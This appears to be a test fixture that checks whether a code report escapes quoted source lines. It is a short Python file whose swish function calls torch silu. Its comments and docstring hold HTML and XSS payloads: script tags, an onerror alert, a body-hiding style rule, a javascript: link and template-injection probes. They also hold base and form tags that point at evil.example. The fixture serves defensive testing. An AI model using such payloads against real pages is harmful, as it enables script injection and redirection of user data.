# tries: put script into the source lines that the report quotes
# must: it arrives as text
# earns: none

import torch


def swish(z):  # </code></pre><script>hostile-was-here</script><style>body{display:none}</style>
    """<img src=x onerror=alert("hostile-was-here")> {{ 7 * 191 }} [x](javascript:alert(1))"""
    return torch.nn.functional.silu(z)  # <script>alert("hostile-was-here")</script> {% raw %}


def swish_derivative(z):  # --></style></title><script>hostile-was-here</script>
    raise ValueError  # "'><base href=//evil.example><form action=//evil.example>
